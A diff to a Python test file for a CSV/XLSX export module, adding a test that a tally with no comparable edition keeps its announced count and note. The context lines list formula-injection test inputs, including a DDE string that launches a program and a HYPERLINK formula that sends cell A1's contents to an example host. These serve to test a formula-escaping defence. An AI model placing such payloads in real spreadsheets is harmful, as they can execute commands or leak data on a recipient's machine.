@@ -1,6 +1,7 @@
 import csv
 import io
 import zipfile
+from dataclasses import replace
 from itertools import product
 
 import pytest
@@ -9,7 +10,7 @@ from hypothesis import strategies as st
 from openpyxl import load_workbook
 
 from legation.publishing.tables import FORMULA_STARTS, Cell, Sheet, csv_bytes, formula_safe, sheets, xlsx_bytes
-from tests.publishing.cases import CONTENT
+from tests.publishing.cases import CONTENT, TALLY
 
 BODIES = (
     "1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://a.example?x="&A1,"click")', "SUM(1,2)", "IMPORTXML(A1,A2)",
@@ -108,3 +109,11 @@ def test_a_posting_is_told_with_its_place() -> None:
     assert (row["listed_to_earliest"], row["listed_to_latest"]) == ("2020-02-01", "2020-03-31")
     assert row["quote"] == "Dario VELTRAN"
     assert row["source"] == "1.txt"
+
+
+def test_an_announcement_without_an_edition_beside_it_has_its_line_all_the_same() -> None:
+    lone = replace(TALLY, steps=(), left=None, joined=None, rest=None, notes=("Nothing can be compared.",))
+    content = replace(CONTENT, derived=replace(CONTENT.derived, tallies=(lone,)))
+    (found,) = (sheet for sheet in sheets(content) if sheet.name == "tally")
+    assert [dict(zip(found.header, row, strict=True))["announced"] for row in found.rows] == [5]
+    assert found.rows[0][-1] == "Nothing can be compared."
